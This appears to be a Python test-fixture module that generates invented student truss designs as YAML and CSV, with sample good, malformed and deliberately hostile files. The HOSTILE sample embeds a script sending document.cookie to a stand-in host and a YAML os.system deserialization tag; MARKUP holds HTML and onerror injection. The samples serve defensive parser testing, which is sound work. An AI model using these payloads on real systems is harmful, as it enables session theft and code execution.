"""Truss files of invented students: good, clever, moving, too much, mistaken, and one hostile.

Text only: nothing here knows whether a truss stands.
"""

from __future__ import annotations

import json
import math
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

Joints = dict[str, tuple[float, float]]
Depth = float | Callable[[float], float]


@dataclass(frozen=True)
class Design:
    """Joints in mm and members with their sticks, before they are written down."""

    title: str
    joints: Joints
    members: dict[str, str] = field(default_factory=dict)

    def without(self, *members: str) -> Design:
        """The same with members forgotten."""
        return Design(self.title, self.joints, {k: v for k, v in self.members.items() if k not in members})

    def with_sticks(self, sticks: dict[str, str]) -> Design:
        """The same with other sticks for some members."""
        return Design(self.title, self.joints, {**self.members, **sticks})


def girder(title: str, span: float, panels: int, depth: Depth, **sticks: str) -> Design:
    """A girder with a level deck: bottom chord b0..bn, top chord t1..tn-1, verticals, diagonals that fall inwards.

    ``depth`` is the height of the top chord in mm, or a function of x / span.
    ``sticks`` names the sticks of ``bottom``, ``top``, ``vertical`` and ``diagonal``.
    """
    height = depth if callable(depth) else lambda _: depth
    middle = panels // 2
    joints: Joints = {f"b{i}": (span * i / panels, 0) for i in range(panels + 1)}
    joints |= {f"t{i}": (span * i / panels, round(height(i / panels), 1)) for i in range(1, panels)}
    members = {f"b{i}-b{i + 1}": sticks["bottom"] for i in range(panels)}
    members |= {f"t{i}-t{i + 1}": sticks["top"] for i in range(1, panels - 1)}
    members |= {"b0-t1": sticks["top"], f"t{panels - 1}-b{panels}": sticks["top"]}
    members |= {f"b{i}-t{i}": sticks["vertical"] for i in range(1, panels)}
    members |= {f"t{i}-b{i + 1}": sticks["diagonal"] for i in range(1, middle)}
    members |= {f"b{i}-t{i + 1}": sticks["diagonal"] for i in range(middle, panels - 1)}
    return Design(title, joints, members)


def zigzag(title: str, span: float, bays: int, depth: float, **sticks: str) -> Design:
    """A girder of triangles alone: deck joints d0..dn, top joints u1..un between them.

    ``sticks`` names the sticks of ``bottom``, ``top`` and ``diagonal``.
    """
    joints: Joints = {f"d{i}": (span * i / bays, 0) for i in range(bays + 1)}
    joints |= {f"u{i}": (span * (i - 0.5) / bays, depth) for i in range(1, bays + 1)}
    members = {f"d{i}-d{i + 1}": sticks["bottom"] for i in range(bays)}
    members |= {f"u{i}-u{i + 1}": sticks["top"] for i in range(1, bays)}
    for i in range(1, bays + 1):
        members |= {f"d{i - 1}-u{i}": sticks["diagonal"], f"u{i}-d{i}": sticks["diagonal"]}
    return Design(title, joints, members)


def arch(rise: float) -> Callable[[float], float]:
    """Height of a bowed top chord over x / span."""
    return lambda part: rise * (0.45 + 0.55 * math.sin(math.pi * part))


def as_yaml(design: Design, unit: str = "mm", working: str = "") -> str:
    """The truss file in YAML."""
    size = {"mm": 1, "cm": 10}[unit]
    lines = [f"title: {json.dumps(design.title, ensure_ascii=False)}", f"units: {unit}", "joints:"]
    lines += [f"  {name}: [{x / size:g}, {y / size:g}]" for name, (x, y) in design.joints.items()]
    lines += ["members:", *(f"  {name}: {stick}" for name, stick in design.members.items())]
    return "\n".join([*lines, working]).rstrip() + "\n"


def as_table(design: Design) -> str:
    """The same as a table saved from a spreadsheet."""
    rows: Iterable[str] = [
        f"title,{design.title}",
        *(f"joint,{name},{x:g},{y:g}" for name, (x, y) in design.joints.items()),
        *(f"member,{name},{stick}" for name, stick in design.members.items()),
    ]
    return "\r\n".join(rows) + "\r\n"


HOSTILE = """title: &t "<script>fetch('http://school.invalid/'+document.cookie)</script>"
joints:
  a: &a [0, 0]
  b: [*a, *a, *a, *a]
  <<: {c: [600, 0]}
members: !!python/object/apply:os.system ["true"]
"""

MARKUP = """title: "<img src='file:///etc/hostname' onerror=alert(1)>"
joints: {a: [0, 0], "<b>b</b>": [150, 0], c: [300, 0], d: [450, 0], e: [600, 0],
         "'>x": [150, 110], y: [300, 110], z: [450, 110]}
members:
  a-<b>b</b>: square5
  <b>b</b>-c: square5
  c-d: square5
  d-e: square5
  a-'>x: square5 x2
  "'>x-y": square5 x2
  y-z: square5 x2
  z-e: square5 x2
  <b>b</b>-'>x: square3
  c-y: square3
  d-z: square3
  "'>x-c": square5
  c-z: square5
"""

FOUR_MISTAKES = """titel: My bridge
units: mm
joints:
  a: [0, 0]
  b: [150, 0]
  c: [300, 0]
  d: [450,5, 0]
  e: [600, 0]
  f: [150, 100]
  g: [450, 100]
members:
  a-b: square5
  b-c: squar5
  c-d: square5
  d-e: square5
  a-f: square5 x2
  f-g: square5 x2
  g-e: square5 x2
  b-f: square3
  d-h: square3
  f-c: square5
  c-g: square5
"""
